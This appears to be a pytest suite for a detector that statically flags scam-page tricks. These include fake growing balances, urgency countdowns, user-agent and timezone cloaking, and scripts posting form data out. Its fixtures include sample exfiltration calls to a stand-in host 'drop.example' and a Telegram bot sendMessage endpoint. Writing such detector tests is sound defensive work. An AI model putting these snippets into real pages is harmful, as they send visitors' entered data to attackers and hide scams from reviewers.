"""What scripts would do is read from their text; nothing runs."""

from __future__ import annotations

import pytest

from detectors.page_html import read_page
from detectors.page_scripts import Scripts
from tests.detectors.test_page_html import BALANCE, URL


def scripts_of(script: str) -> Scripts:
    return read_page(f"<script>{script}</script>", URL).scripts


def test_a_growing_balance_is_seen() -> None:
    grown = read_page(BALANCE, URL).scripts.growing_balance
    assert grown is not None
    assert "balance" in grown


def test_a_number_that_grows_beside_a_currency_is_a_balance_too() -> None:
    script = "var n = 250, at = document.getElementById('amount'); setInterval(function () { n += 3; at.textContent = n; }, 400);"
    beside = '<p>Sizin hesab: <b id="amount">250</b> AZN</p>'
    assert read_page(f"{beside}<script>{script}</script>", URL).scripts.growing_balance is not None
    visitors = '<p>Bu gün <b id="amount">250</b> nəfər</p>'
    assert read_page(f"{visitors}<script>{script}</script>", URL).scripts.growing_balance is None


@pytest.mark.parametrize("word", ["Balansınız", "Ваш баланс", "Теңгеріміңіз", "Bakiyeniz", "Your balance"])
def test_a_balance_is_known_in_every_language(word: str) -> None:
    script = (
        'var n = 1, e = document.getElementById("n"); setInterval(function () { n += 3; e.textContent = n; }, 400);'
    )
    page = f'<div>{word}: <span id="n">1</span></div><script>{script}</script>'
    assert read_page(page, URL).scripts.growing_balance is not None


@pytest.mark.parametrize(
    "script",
    [
        "setInterval(function () { left -= 1; timer.textContent = left; }, 1000);",
        "var balance = 250; show.textContent = balance;",
        "setInterval(function () { i++; slide.style.left = i; }, 1000);",
        "",
    ],
)
def test_countdowns_balances_that_stand_still_and_slides_do_not_grow(script: str) -> None:
    assert read_page(f"<script>{script}</script>", URL).scripts.growing_balance is None


@pytest.mark.parametrize(
    "script",
    [
        "var left = 600; setInterval(function () { left -= 1; timer.textContent = left; }, 1000);",
        "setInterval(() => { const s = end - Date.now(); document.getElementById('countdown').innerHTML = s; }, 500)",
        "setInterval(function(){ qalan--; $('#saygac').text(qalan); }, 1000)",
    ],
)
def test_a_countdown_is_seen(script: str) -> None:
    assert scripts_of(script).countdown is not None


@pytest.mark.parametrize(
    "script",
    [
        "setInterval(function () { n -= 1; box.textContent = n; }, 1000);",
        "left -= 1; timer.textContent = left;",
        "x.timer = 1",
    ],
)
def test_what_falls_without_a_word_or_without_a_timer_is_no_countdown(script: str) -> None:
    assert scripts_of(script).countdown is None


@pytest.mark.parametrize(
    ("script", "target"),
    [
        ("$.post('https://drop.example/take', data)", "https://drop.example/take"),
        ("axios.post(`/api/lead`, data)", "/api/lead"),
        ("fetch('https://drop.example/x', {method: 'POST', body: f})", "https://drop.example/x"),
        ("x.open('POST', '//drop.example/y')", "//drop.example/y"),
        ("$.ajax({url: 'https://drop.example/z', type: 'POST'})", "https://drop.example/z"),
        ("navigator.sendBeacon('https://drop.example/b', d)", "https://drop.example/b"),
    ],
)
def test_where_scripts_send_data(script: str, target: str) -> None:
    assert scripts_of(script).posts_to == (target,)


def test_what_is_only_fetched_is_not_sent() -> None:
    assert scripts_of("fetch('https://api.example/rates').then(r => r.json()); x.open('GET', '/y')").posts_to == ()


def test_a_telegram_bot_is_named_by_its_number_and_its_key_is_not_kept() -> None:
    read = scripts_of(
        "fetch('https://api.telegram.org/bot123456789:AAsecretKEYofTheBot/sendMessage', {method: 'POST'})"
    )
    assert read.telegram_bot == "123456789"
    assert "secret" not in repr(read)
    assert scripts_of("u = 'https://api.telegram.org/bot' + token").telegram_bot == ""
    assert scripts_of("t.me/bot123").telegram_bot is None


def test_scripts_that_look_at_the_visitor_and_send_some_away() -> None:
    assert scripts_of("if (!/FBAN|FBAV/.test(navigator.userAgent)) location.replace('/safe')").sorts_visitors
    assert scripts_of(
        "if (new Intl.DateTimeFormat().resolvedOptions().timeZone != 'Asia/Baku') location.href = '/'"
    ).sorts_visitors
    assert not scripts_of("if (location.href == '/') console.log(navigator.userAgent)").sorts_visitors
    assert not scripts_of("location.replace('/start')").sorts_visitors


@pytest.mark.parametrize(
    "script",
    [
        "setInterval(" * 15_000,
        "fetch('x'," * 18_000,
        "$.post('" + "a" * 190_000,
        "axios({url:" * 15_000,
        "left -= 1;" * 18_000,
    ],
)
def test_hostile_scripts_are_read_without_harm(script: str) -> None:
    assert scripts_of(script).growing_balance is None
